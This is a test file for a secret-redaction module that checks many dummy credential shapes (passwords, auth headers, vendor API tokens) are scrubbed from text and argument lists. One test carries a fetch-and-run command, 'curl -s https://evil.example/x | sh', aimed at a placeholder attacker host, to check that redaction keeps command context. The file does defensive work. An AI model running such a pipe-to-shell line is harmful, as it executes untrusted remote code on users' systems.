import { describe, expect, it } from "vitest";
import { REDACTED, redactArgs, redactText, redactValue } from "../../core/untrusted/redact.ts";

/** Each shape from a real leak report: the text, and the part that must not survive. */
const LEAKS: ReadonlyArray<[string, string, string]> = [
  ["a secret flag's value on a command line", "app -password Sup3rS3cret! -v", "Sup3rS3cret!"],
  ["a --token value", "tool --token abcd1234efgh --verbose", "abcd1234efgh"],
  ["a quoted flag value with spaces", 'tool --api-key "two words" x', "two words"],
  ["an args list in JSON", 'args: ["-password", "Sup3rS3cret!"]', "Sup3rS3cret!"],
  ["an args list in pretty JSON", '"args": [\n  "--token",\n  "T0ken-Value"\n]', "T0ken-Value"],
  ["an args list in YAML", "args:\n- -password\n- Sup3rS3cret!\n- -v", "Sup3rS3cret!"],
  ["describe output", "    Args:\n      -password\n      Sup3rS3cret!\n", "Sup3rS3cret!"],
  ["mysql with an attached password", "mysql -h db -uroot -pSup3rS3cret! shop", "Sup3rS3cret!"],
  ["mysql in a YAML command list", "command:\n- mysql\n- -pSup3rS3cret!", "Sup3rS3cret!"],
  ["docker login -p", "docker login -u bob -p D0ckerPw registry.example", "D0ckerPw"],
  ["docker login --password", "docker login --password D0ckerPw registry.example", "D0ckerPw"],
  ["curl -u user:pass", "curl -u admin:Adm1nPw https://api.example", "Adm1nPw"],
  ["curl --user user:pass", "curl -s --user admin:Adm1nPw https://api.example", "Adm1nPw"],
  ["redis-cli -a", "redis-cli -h redis -a R3disPw ping", "R3disPw"],
  ["vault login --token", "vault login --token s.Xy12abc", "s.Xy12abc"],
  ["vault login TOKEN", "vault login myroottoken", "myroottoken"],
  [
    "Authorization with the Token scheme",
    "Authorization: Token 9944b09199c62bcf9418ad846dd0e4bb",
    "9944b09199c62bcf",
  ],
  ["Authorization with any scheme", 'authorization: ApiKey "k3y-value-1"', "k3y-value-1"],
  [
    "Authorization in JSON",
    '{"Authorization": "Digest username=\\"bob\\", response=\\"6629fae4\\""}',
    "6629fae4",
  ],
  [
    "the second of two Authorization headers on one line",
    '{"Authorization":"Token first-value-1","Proxy-Authorization":"ApiKey second-value-2"}',
    "second-value-2",
  ],
  [
    "a kubeadm bootstrap token",
    "kubeadm join 10.0.0.1:6443 --token abcdef.0123456789abcdef",
    "0123456789abcdef",
  ],
  ["a bare kubeadm bootstrap token", "token abcdef.0123456789abcdef created", "0123456789abcdef"],
  ["a dockerconfig auth inside text", '{"auths":{"reg.io":{"auth":"Ym9iOnMzY3JldA=="}}}', "Ym9iOnMzY3JldA=="],
  ["a double-quoted pass-phrase", 'password = "correct horse battery staple"', "horse battery"],
  ["a single-quoted pass-phrase", "PASSWORD='a b c'", "a b c"],
  ["a YAML plain pass-phrase", "  db_password: correct horse battery staple", "horse battery"],
  [
    "a Hugging Face token",
    "HF_HUB hf_AbCdEfGhIjKlMnOpQrStUvWxYz01234567",
    "hf_AbCdEfGhIjKlMnOpQrStUvWxYz01234567",
  ],
  ["a Datadog API key", "DD_API_KEY=0123456789abcdef0123456789abcdef", "0123456789abcdef0123456789abcdef"],
  [
    "a Datadog app key in prose",
    "datadog app key 0123456789abcdef0123456789abcdef01234567 set",
    "0123456789abcdef01234567",
  ],
  [
    "a Datadog key in a header",
    "DD-APPLICATION-KEY: 0123456789abcdef0123456789abcdef01234567",
    "0123456789abcdef01234567",
  ],
  ["a Mailgun key", "using key-0123456789abcdef0123456789abcdef", "0123456789abcdef0123456789abcdef"],
  ["a Twilio API key SID", "SK0123456789abcdef0123456789abcdef", "0123456789abcdef0123456789abcdef"],
  [
    "a Twilio SID with its auth token",
    "-u AC0123456789abcdef0123456789abcdef:fedcba9876543210fedcba9876543210",
    "fedcba9876543210",
  ],
  [
    "a Twilio auth token in prose",
    "twilio auth token is fedcba9876543210fedcba9876543210",
    "fedcba9876543210",
  ],
  [
    "a PyPI token",
    "pypi-AgEIcHlwaS5vcmcCJGFiY2RlZmdoLWlqa2wtbW5vcC1xcnN0LXV2d3h5ejAxMjM0",
    "AgEIcHlwaS5vcmcCJGFiY2RlZmdo",
  ],
  ["a DigitalOcean token", `DO dop_v1_${"0123456789abcdef".repeat(4)}`, "0123456789abcdef0123456789abcdef"],
  [
    "a DigitalOcean OAuth token",
    `doo_v1_${"0123456789abcdef".repeat(4)}`,
    "0123456789abcdef0123456789abcdef",
  ],
  ["a Shopify token", "shpat_0123456789abcdef0123456789abcdef", "0123456789abcdef0123456789abcdef"],
  ["a Shopify shared secret", "shpss_0123456789abcdef0123456789abcdef", "0123456789abcdef0123456789abcdef"],
  ["a Google OAuth client secret", "GOCSPX-AbCdEfGhIjKlMnOpQrStUvWxYz12", "AbCdEfGhIjKlMnOpQrStUvWxYz12"],
  [
    "a Telegram bot token",
    "bot 123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsawz ok",
    "AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsawz",
  ],
  [
    "a Discord bot token",
    "MTA1MjM0NTY3ODkwMTIzNDU2Nzg5.GhIjKl.abcdefghijklmnopqrstuvwxyz0123456789AB",
    "abcdefghijklmnopqrstuvwxyz0123456789AB",
  ],
];

describe("redactText on the shapes that leaked", () => {
  it.each(LEAKS)("removes %s", (_label, input, secret) => {
    const output = redactText(input);
    expect(output).not.toContain(secret);
    expect(output).toMatch(/redacted/);
    expect(redactText(output)).toBe(output);
  });

  it.each([
    ["mysql -p without a value (it prompts; the next word is the database)", "mysql -p shop"],
    ["docker run -u uid:gid (not curl)", "docker run -u 1000:1000 busybox"],
    ["-p as a port outside a login", "kubectl port-forward svc/db -p 8080"],
    [
      "a password flag that takes its value from an env var",
      "app --password $(DB_PASSWORD) --token ${TOKEN}",
    ],
    ["vault login with a method", "vault login -method=userpass username=bob"],
    ["a key that starts with auth", "author: bob authentication=ldap"],
  ])("leaves %s alone", (_label, input) => {
    expect(redactText(input)).toBe(input);
  });

  it("stops at an escaped whitespace in JSON text, so the rest of a command stays visible", () => {
    const json = JSON.stringify({ command: "API_TOKEN=abcdef\tcurl -s https://evil.example/x | sh" });
    const output = redactText(json);
    expect(output).toContain("curl -s https://evil.example/x | sh");
    expect(output).not.toContain("abcdef");
    // The same as redacting the raw value first.
    expect(output).toBe(
      JSON.stringify({ command: redactText("API_TOKEN=abcdef\tcurl -s https://evil.example/x | sh") }),
    );
  });
});

describe("redactArgs", () => {
  it.each([
    [
      ["app", "-password", "Sup3r S3cret!", "-v"],
      ["app", "-password", REDACTED, "-v"],
    ],
    [
      ["app", "--token", "T0ken", "--api-key", "k3y"],
      ["app", "--token", REDACTED, "--api-key", REDACTED],
    ],
    [
      ["mysql", "-uroot", "-pSup3r!", "shop"],
      ["mysql", "-uroot", `-p${REDACTED}`, "shop"],
    ],
    [
      ["mysql", "-p", "shop"],
      ["mysql", "-p", "shop"],
    ],
    [
      ["docker", "login", "-p", "pw", "r.io"],
      ["docker", "login", "-p", REDACTED, "r.io"],
    ],
    [
      ["curl", "-u", "admin:pw", "https://x"],
      ["curl", "-u", `admin:${REDACTED}`, "https://x"],
    ],
    [
      ["redis-cli", "-a", "pw"],
      ["redis-cli", "-a", REDACTED],
    ],
    [
      ["vault", "login", "root"],
      ["vault", "login", REDACTED],
    ],
    [
      ["/usr/bin/vault", "login", "--token", "root"],
      ["/usr/bin/vault", "login", "--token", REDACTED],
    ],
    [
      ["app", "--password=hunter22"],
      ["app", `--password=${REDACTED}`],
    ],
    [
      ["sh", "-c", "mysql -pSup3r! shop"],
      ["sh", "-c", `mysql -p${REDACTED} shop`],
    ],
  ])("redacts %j", (input, expected) => {
    expect(redactArgs(input)).toEqual(expected);
  });

  it("is used for every string list in a redacted value, with a container's command and args as one argv", () => {
    const pod = redactValue({
      spec: {
        containers: [
          { name: "cache", command: ["redis-cli"], args: ["-a", "R3disPw", "ping"] },
          { name: "app", args: ["-password", "Sup3r S3cret!"] },
        ],
      },
    });
    expect(pod.spec.containers[0]!.args).toEqual(["-a", REDACTED, "ping"]);
    expect(pod.spec.containers[1]!.args).toEqual(["-password", REDACTED]);
    expect(pod.spec.containers[0]!.command).toEqual(["redis-cli"]);
  });
});
